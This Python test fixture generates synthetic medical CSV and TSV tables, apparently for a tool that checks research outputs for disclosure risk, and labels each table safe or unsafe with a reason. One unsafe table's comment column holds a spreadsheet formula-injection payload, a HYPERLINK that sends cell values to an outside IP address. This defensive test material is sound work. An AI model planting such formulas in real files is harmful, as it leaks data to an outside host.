"""CSV and TSV tables."""

from tests.airlock.outputs.case import Shelf

from .tools import fr, lines, np_, pair, pval, share, split


def write(shelf: Shelf) -> None:
    r = shelf.random("csv")
    n, (a, b) = 1842, (917, 925)
    rows = [["Caractéristique", f"Total (N = {n})", f"Thrombolyse (N = {a})", f"Pas de thrombolyse (N = {b})", "p"]]
    for name in (
        "Femme",
        "HTA",
        "Diabète",
        "Dyslipidémie",
        "Fibrillation atriale",
        "Tabagisme actif",
        "Antécédent d'AVC",
        "Insuffisance rénale",
        "Anticoagulant au long cours",
        "Retour à domicile",
        "Décès à 90 jours",
    ):
        x, y, p = pair(r, a, b)
        rows.append([name, np_(x + y, n), np_(x, a), np_(y, b), p])
    rows += [
        ["Âge, médiane [Q1 ; Q3]", "74 [63 ; 82]", "73 [62 ; 81]", "75 [64 ; 83]", "0,012"],
        ["NIHSS à l'entrée, médiane [Q1 ; Q3]", "6 [3 ; 13]", "8 [5 ; 15]", "4 [2 ; 9]", "<0,001"],
        ["mRS à 90 jours, médiane [Q1 ; Q3]", "2 [1 ; 4]", "2 [1 ; 4]", "2 [0 ; 4]", "0,31"],
    ]
    lines(
        shelf.safe(
            "avc_tableau1.csv",
            "medians and quartiles of 1 to 9 (scores)",
            "Caractéristiques des patients selon la thrombolyse ; sortie gtsummary.",
            "1 842 patients hospitalisés pour AVC ischémique, 2019-2023",
        ),
        rows,
        ";",
        "latin-1",
    )

    years = list(range(2015, 2025))
    rows = [["annee", "service", "sejours", "dms_jours", "taux_readmission_30j_pct", "lits", "praticiens_etp"]]
    for s, beds, etp in (
        ("Cardiologie", 42, 8.5),
        ("Pneumologie", 36, 6),
        ("Néphrologie", 24, 5.5),
        ("Gériatrie aiguë", 30, 4),
        ("Soins intensifs cardiologiques", 9, 5),
    ):
        for y in years:
            rows.append([y, s, r.randint(900, 2400), f"{r.uniform(4, 9):.1f}", f"{r.uniform(7, 14):.1f}", beds, etp])
    lines(
        shelf.safe(
            "activite_pole_thorax.csv",
            "small numbers of beds and doctors",
            "Activité annuelle du pôle par service, lits et ETP médicaux compris.",
            "Environ 85 000 séjours de 2015 à 2024",
        ),
        rows,
    )

    rows = [["ccaact4", "libelle_commune", "patients_diabetiques", "dont_pied_diabetique"]]
    for i, c in enumerate(
        (
            "Bellefontaine",
            "Rochemaure",
            "Sainte-Colombe",
            "Valcourt",
            "Pont-l'Abbaye",
            "Montclar",
            "Villeneuve-les-Bois",
            "La Chapelle",
            "Fontenay",
            "Beaulieu",
            "Marsac",
            "Saint-Rémy",
            "Les Ormes",
            "Trévières",
            "Castelnau",
        )
    ):
        t = r.randint(140, 600)
        rows.append([f"C{i + 1:02d}", c, t, 4 if c == "Trévières" else r.randint(12, 60)])
    lines(
        shelf.unsafe(
            "pied_diabetique_communes.csv",
            "small cell",
            "row Trévières, 4",
            "Nombre de patients diabétiques suivis et avec plaie du pied par commune de résidence.",
            "5 214 patients diabétiques suivis en 2022",
        ),
        rows,
        ";",
    )

    rows = [["Drug class", "Exposed (n)", "Any ADR n (%)", "Serious ADR n (%)", "Adjusted OR (95% CI)", "p"]]
    for d, t in (
        ("Platinum salts", 612),
        ("Taxanes", 744),
        ("Anthracyclines", 538),
        ("Anti-PD-1", 466),
        ("Anti-VEGF", 389),
        ("TKI", 421),
    ):
        x = share(r, t, 60, 0.8)
        y = 0 if d == "Anti-VEGF" else r.randint(14, 40)
        rows.append(
            [
                d,
                t,
                np_(x, t, False),
                np_(y, t, False),
                f"{r.uniform(0.6, 2):.2f} ({r.uniform(0.4, 0.6):.2f}-{r.uniform(2, 3):.2f})",
                pval(r, False),
            ]
        )
    lines(
        shelf.unsafe(
            "adr_by_class.tsv",
            "zero of a real group",
            "row Anti-VEGF, serious ADR 0",
            "Adverse drug reactions by class of anticancer drug, pooled logistic regression.",
            "3,170 exposures of adult oncology patients, 2018-2022",
        ),
        rows,
        "\t",
    )

    rows = [["variable", "modalité", "n", "%"]]
    n = 2306
    for var, mods in (
        ("Sexe", ("Femmes", "Hommes")),
        ("Classe d'âge", ("18-39", "40-59", "60-74", "75 et plus")),
        ("Stade TNM", ("I", "II", "III", "IV")),
        ("Traitement", ("Chirurgie seule", "Chimiothérapie seule", "Chirurgie + chimiothérapie", "Soins de support")),
    ):
        for m, x in zip(mods, split(r, n, len(mods), 90)):
            rows.append([var, m, x, fr(100 * x / n)])
    lines(
        shelf.safe(
            "colon_descriptif.csv",
            "stages I-IV, ages 18-39",
            "Description des patients opérés ou traités d'un cancer colique.",
            f"{n} patients, 2012-2021",
        ),
        rows,
        ";",
    )
    rows[1:] = [row[:] for row in rows[1:]]
    n = 1498
    rows = [["Item", "Yes", "No", "Missing", "N"]]
    for q in (
        "Pain assessed at admission",
        "Advance directives recorded",
        "Trusted person recorded",
        "Weight recorded within 48 h",
        "Pressure ulcer risk scored",
        "Discharge letter on day 0",
        "Medication reconciliation",
    ):
        yes, no, miss = split(r, n, 3, 40)
        if q.startswith("Weight"):
            yes, no, miss = 1301, 190, 7
        rows.append([q, yes, no, miss, n])
    lines(
        shelf.unsafe(
            "quality_indicators_audit.csv",
            "small cell in the Missing column",
            "row Weight recorded, Missing 7",
            "Audit of record-keeping indicators over all medical wards.",
            f"{n} audited stays, 2023",
        ),
        rows,
    )

    rows = [["trimestre", "passages_urgences", "dont_75_ans_et_plus", "hospitalises", "deces"]]
    for y in range(2018, 2023):
        for q in (1, 2, 3, 4):
            p = r.randint(9800, 13500)
            rows.append(
                [f"{y}T{q}", p, int(p * r.uniform(0.15, 0.19)), int(p * r.uniform(0.2, 0.26)), r.randint(22, 60)]
            )
    lines(
        shelf.safe(
            "urgences_trimestres.csv",
            "quarter numbers 1-4",
            "Passages aux urgences adultes par trimestre et devenir.",
            "Environ 230 000 passages, 2018-2022",
        ),
        rows,
    )

    rows = [["id_anonyme", "sexe", "tranche_age", "imc", "hba1c_m0", "hba1c_m12", "traitement"]]
    for i in range(160):
        rows.append(
            [
                f"P{i + 1:04d}",
                r.choice("FM"),
                r.choice(("40-49", "50-59", "60-69", "70-79")),
                f"{r.gauss(31, 5):.1f}",
                f"{r.gauss(8.4, 1):.1f}",
                f"{r.gauss(7.5, 0.9):.1f}",
                r.choice(("aGLP1", "iSGLT2", "insuline")),
            ]
        )
    lines(
        shelf.unsafe(
            "hba1c_m0_m12.csv",
            "row-level data",
            "one line for each patient",
            "Données ayant servi à la figure 2 (évolution de l'HbA1c à 12 mois).",
            "160 patients diabétiques de type 2",
        ),
        rows,
        ";",
    )

    rows = [["age_year", "sex", "canton", "delivery_mode", "mean_birthweight_g", "mean_apgar5", "mean_stay_days"]]
    for age in range(18, 42):
        for sex in ("girl", "boy"):
            for c in ("North", "Centre", "South"):
                rows.append(
                    [
                        age,
                        sex,
                        c,
                        r.choice(("vaginal", "caesarean", "instrumental")),
                        r.randint(2100, 4300),
                        r.randint(7, 10),
                        r.randint(2, 8),
                    ]
                )
    lines(
        shelf.unsafe(
            "birth_means_by_stratum.csv",
            "row-level data in disguise: strata of one person with means",
            "all lines (no n, whole values)",
            "Mean birth weight, Apgar and stay by maternal age, sex, area and mode of delivery.",
            "144 births in the pilot ward, 2021",
        ),
        rows,
    )

    rows = [["group", "n", "mean_ferritin", "sd_ferritin", "mean_crp", "sd_crp"]]
    for g, m in (
        ("Crohn, active", 212),
        ("Crohn, remission", 348),
        ("UC, active", 164),
        ("UC, remission", 297),
        ("Indeterminate colitis", 1),
        ("Controls", 410),
    ):
        rows.append(
            [
                g,
                m,
                f"{r.uniform(60, 300):.1f}",
                "NA" if m == 1 else f"{r.uniform(40, 120):.1f}",
                f"{r.uniform(2, 40):.1f}",
                "NA" if m == 1 else f"{r.uniform(2, 20):.1f}",
            ]
        )
    lines(
        shelf.unsafe(
            "ibd_ferritin_groups.csv",
            "SD of one: a group of one person",
            "row Indeterminate colitis, n 1, SD NA",
            "Ferritin and CRP by disease and activity.",
            "1,432 adults followed for IBD and controls, 2016-2022",
        ),
        rows,
    )

    rows = [["Model", "Fold", "AUROC", "AUPRC", "Brier", "Accuracy"]]
    for m in ("LogReg-L2", "RandomForest", "XGBoost", "MLP"):
        folds = [[r.uniform(lo, lo + 0.06) for lo in (0.78, 0.41, 0.09, 0.74)] for _ in range(5)]
        for f, one in enumerate(folds, 1):
            rows.append([m, f, *(f"{x:.3f}" for x in one)])
        rows.append([m, "mean", *(f"{sum(x) / 5:.3f}" for x in zip(*folds))])
    lines(
        shelf.safe(
            "sepsis_cv_metrics.csv",
            "folds numbered 1 to 5",
            "Five-fold cross-validated metrics of four models predicting sepsis within 24 h.",
            "18,420 ICU stays, 2014-2022",
        ),
        rows,
    )

    rows = [["code_cim10", "libelle", "sejours_2022", "sejours_2023", "rang_2022", "rang_2023"]]
    for i, (c, t) in enumerate(
        (
            ("I50.1", "Insuffisance ventriculaire gauche"),
            ("J44.1", "BPCO avec exacerbation"),
            ("I48.9", "Fibrillation auriculaire"),
            ("J18.9", "Pneumopathie"),
            ("N39.0", "Infection urinaire"),
            ("I63.9", "Infarctus cérébral"),
            ("K80.2", "Calcul vésiculaire"),
            ("S72.0", "Fracture du col du fémur"),
            ("E11.5", "Diabète de type 2 avec complications"),
        )
    ):
        rows.append([c, t, 1900 - 160 * i + r.randint(0, 60), 1890 - 150 * i + r.randint(0, 60), i + 1, i + 1])
    lines(
        shelf.safe(
            "top9_diagnostics.csv",
            "ranks from 1 to 9, codes",
            "Diagnostics principaux les plus fréquents en 2022 et 2023 et leur rang.",
            "Séjours de médecine adulte, environ 30 000 par an",
        ),
        rows,
        ";",
    )

    rows = [["Établissement", "Séjours GHM 05K10", "Coût total (€)", "Part du coût"]]
    costs = [11_480_300, 412_800, 398_100, 365_900, 310_250]
    for e, st, c in zip("ABCDE", (4120, 212, 205, 190, 164), costs):
        rows.append([f"Site {e}", st, c, fr(100 * c / sum(costs)) + " %"])
    rows.append(["Total", 4891, sum(costs), "100,0 %"])
    lines(
        shelf.unsafe(
            "couts_angioplastie_sites.csv",
            "dominance: a contributor at 85 % or more of a sum",
            "Site A, 88,5 % du total",
            "Coûts complets des angioplasties par site du groupement.",
            "4 891 séjours de 2023, 5 sites",
        ),
        rows,
        ";",
    )

    rows = [["Semaine", "Cas cumulés de bronchiolite", "Hospitalisations cumulées"]]
    c = h = 0
    for w in range(40, 53):
        c += r.randint(60, 190)
        h += 6 if w == 47 else r.randint(14, 50)
        rows.append([f"2022-S{w}", c, h])
    lines(
        shelf.unsafe(
            "bronchiolite_cumul.csv",
            "difference of a cumulated series",
            "week 47: 6 more than week 46",
            "Courbe cumulée des cas et hospitalisations pour bronchiolite, saison 2022.",
            "Enfants de moins de 2 ans vus aux urgences pédiatriques",
        ),
        rows,
        ";",
    )

    rows = [["Facteur", "HR brut", "IC95 % bas", "IC95 % haut", "HR ajusté", "IC95 % bas", "IC95 % haut", "p"]]
    for f in (
        "Âge (par 10 ans)",
        "Sexe féminin",
        "Charlson >= 3",
        "Albumine < 30 g/L",
        "Chirurgie en urgence",
        "Centre 2 vs 1",
        "Centre 3 vs 1",
        "Centre 4 vs 1",
        "Année d'inclusion",
    ):
        row = [f]
        for _ in (1, 2):
            x = r.uniform(0.6, 3)
            row += [fr(x, 2), fr(x * 0.7, 2), fr(x * 1.4, 2)]
        rows.append([*row, pval(r)])
    lines(
        shelf.safe(
            "cox_mortalite_1an.csv",
            "hazard ratios 1-9, centre numbers",
            "Modèle de Cox de la mortalité à 1 an après chirurgie digestive.",
            "2 960 patients opérés, 704 décès, 4 centres",
        ),
        rows,
        ";",
    )

    rows = [["Libellé", "Effectif", "Commentaire"]]
    for t in (
        "Prothèse de hanche",
        "Prothèse de genou",
        "Arthroscopie de genou",
        "Canal carpien",
        "Hallux valgus",
        "Coiffe des rotateurs",
    ):
        rows.append([t, r.randint(120, 900), ""])
    rows[3][2] = '=HYPERLINK("http://192.0.2.14/collecte?v="&B2&B3;"détail")'
    lines(
        shelf.unsafe(
            "actes_orthopedie.csv",
            "formula injection",
            "row Arthroscopie, Commentaire",
            "Nombre d'actes d'orthopédie par type en 2023.",
            "Environ 3 000 actes",
        ),
        rows,
        ";",
    )
